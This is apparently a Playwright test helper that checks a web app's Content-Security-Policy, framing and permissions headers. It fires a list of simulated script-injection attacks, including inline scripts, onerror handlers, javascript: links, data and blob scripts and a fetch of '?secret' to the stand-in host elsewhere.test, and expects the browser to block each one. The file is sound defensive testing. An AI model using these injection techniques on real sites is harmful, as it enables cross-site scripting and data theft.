import { expect, type Page } from '@playwright/test'
import { INBOX_KEY } from '../servers/product.ts'

/** The inbox page of the local server. */
export const INBOX = `/_local/inbox?key=${INBOX_KEY}`

/** A foreign origin. */
const ELSEWHERE = 'http://elsewhere.test'

/** Attacks of an injected script. Each sets `window.intruder` if it succeeds. */
const INTRUSIONS = {
  'an inline script': () => {
    const script = document.createElement('script')
    script.textContent = 'window.intruder = true'
    document.body.append(script)
  },
  'a handler in markup': () => {
    document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.intruder = true">')
  },
  'a javascript: link': () => {
    const link = document.createElement('a')
    link.href = 'javascript:window.intruder = true'
    document.body.append(link)
    link.click()
  },
  eval: () => {
    // Evaluated by a timer: unlike the debugger it is subject to the policy.
    Reflect.apply(setTimeout, window, ['window.intruder = true'])
  },
  WebAssembly: () => {
    const compile = () => WebAssembly.compile(Uint8Array.of(0, 97, 115, 109, 1, 0, 0, 0))
    setTimeout(
      () =>
        void compile().then(
          () => Reflect.set(window, 'intruder', true),
          () => undefined,
        ),
    )
  },
  'a script from elsewhere': () => {
    const script = document.createElement('script')
    script.src = 'http://elsewhere.test/intruder.js'
    document.body.append(script)
  },
  'a script made of data': () => {
    const script = document.createElement('script')
    script.src = `data:text/javascript,${encodeURIComponent('window.intruder = true')}`
    document.body.append(script)
  },
  'a worker made of a blob': () => {
    const worker = new Worker(URL.createObjectURL(new Blob(['postMessage(1)'], { type: 'text/javascript' })))
    worker.onmessage = () => Reflect.set(window, 'intruder', true)
  },
  'a style that draws over the page': () => {
    const style = document.createElement('style')
    style.textContent = 'body { display: none }'
    document.body.append(style)
    if (getComputedStyle(document.body).display === 'none') Reflect.set(window, 'intruder', true)
  },
  'a request to a foreign origin': () => {
    void fetch('http://elsewhere.test/?secret').then(
      () => Reflect.set(window, 'intruder', true),
      () => undefined,
    )
  },
  'another base for links': () => {
    const base = document.createElement('base')
    base.href = 'http://elsewhere.test/'
    document.head.append(base)
    if (!document.baseURI.startsWith(location.origin)) Reflect.set(window, 'intruder', true)
  },
  'a form that leads elsewhere': () => {
    document.body.insertAdjacentHTML('beforeend', '<form action="http://elsewhere.test/"></form>')
    const form = document.body.lastElementChild
    if (form instanceof HTMLFormElement) form.submit()
  },
  'a foreign frame': () => {
    const frame = document.createElement('iframe')
    frame.src = 'http://elsewhere.test/'
    document.body.append(frame)
  },
} satisfies Record<string, () => void>

export type Intrusion = keyof typeof INTRUSIONS

export const EVERY_INTRUSION = Object.keys(INTRUSIONS) as readonly Intrusion[]

/** Effects of the security headers in the browser. */
export class SecurityDriver {
  readonly #page: Page
  readonly #violations: string[] = []

  constructor(page: Page) {
    this.#page = page
  }

  /** Records policy violations of all documents from now on, and answers requests to the foreign origin. */
  async watch(): Promise<void> {
    await this.#page.exposeFunction('noteViolation', (violation: string) => void this.#violations.push(violation))
    await this.#page.addInitScript(() => {
      addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI, sourceFile, lineNumber }) => {
        const note: unknown = Reflect.get(window, 'noteViolation')
        const violation = `${effectiveDirective}: ${blockedURI} (${sourceFile}:${lineNumber})`
        if (typeof note === 'function') Reflect.apply(note, window, [violation])
      })
    })
    await this.#page.route(`${ELSEWHERE}/**`, (route) =>
      route.fulfill({
        contentType: 'text/javascript',
        headers: { 'Access-Control-Allow-Origin': '*' },
        body: 'window.intruder = true',
      }),
    )
  }

  /** The browser blocks the attack by this directive. */
  async thenRefuses(intrusion: Intrusion, directive: string): Promise<void> {
    this.#violations.length = 0
    await this.#page.evaluate(INTRUSIONS[intrusion])
    await expect.poll(() => this.#violations.map((violation) => violation.split(':')[0])).toContain(directive)
    expect(await this.#page.evaluate(() => Reflect.has(window, 'intruder'))).toBe(false)
    expect(this.#page.url()).not.toContain(ELSEWHERE)
  }

  thenNothingWasRefused(): void {
    expect(this.#violations).toEqual([])
  }

  /** The document has no inline script, handler or `javascript:` link. */
  async thenNothingInlineIsThere(): Promise<void> {
    const found = await this.#page.evaluate(() =>
      [...document.querySelectorAll('*')].flatMap((element) => [
        ...(element instanceof HTMLScriptElement && !element.src && !element.type.endsWith('json')
          ? ['a script without a file']
          : []),
        ...element
          .getAttributeNames()
          .filter((name) => name.startsWith('on') || /^\s*javascript:/iu.test(element.getAttribute(name) ?? ''))
          .map((name) => `${element.tagName} ${name}`),
      ]),
    )
    expect(found).toEqual([])
  }

  /** Frames a URL in a page of the foreign or of the own origin. */
  async whenFraming(url: string, host: 'elsewhere' | 'here'): Promise<void> {
    if (host === 'elsewhere') {
      const body = '<!doctype html><title>Elsewhere</title>'
      await this.#page.route(`${ELSEWHERE}/page`, (route) => route.fulfill({ contentType: 'text/html', body }))
      await this.#page.goto(`${ELSEWHERE}/page`)
    }
    await this.#page.evaluate(
      (address) =>
        new Promise<void>((resolve) => {
          const frame = document.createElement('iframe')
          frame.onload = () => resolve()
          frame.src = address
          document.body.append(frame)
        }),
      url,
    )
  }

  /** The browser shows an error page instead of the framed one. */
  async thenTheFrameIsEmpty(): Promise<void> {
    const frames = this.#page.frames().slice(1)
    expect(frames).toHaveLength(1)
    for (const frame of frames) {
      expect(await frame.locator('#root').count()).toBe(0)
      expect(await frame.title().catch(() => '')).not.toContain('Mahlzeit')
    }
  }

  /** The features that the permissions policy allows. */
  async thenMayAskOnlyFor(features: readonly string[]): Promise<void> {
    const states = await this.#page.evaluate(async (names) => {
      const policy: unknown = Reflect.get(document, 'featurePolicy')
      const allows: unknown = typeof policy === 'object' && policy !== null && Reflect.get(policy, 'allowsFeature')
      if (typeof allows !== 'function') return []
      return names.filter((name) => Reflect.apply(allows, policy, [name]) === true)
    }, POWERFUL)
    expect(states).toEqual(features)
  }

  /** The link of the newest mail, inside the frame of the inbox, opens the site in another tab. */
  async thenNewestMailOpensTheSite(): Promise<void> {
    await this.#page.goto(INBOX)
    const opening = this.#page.context().waitForEvent('page')
    await this.#page.locator('iframe').first().contentFrame().getByRole('link').first().click()
    const opened = await opening
    await expect(opened.getByRole('heading').first()).toBeAttached()
    expect(new URL(opened.url()).origin).toBe(new URL(this.#page.url()).origin)
  }
}

const POWERFUL = ['camera', 'geolocation', 'microphone', 'payment', 'usb', 'midi', 'display-capture']
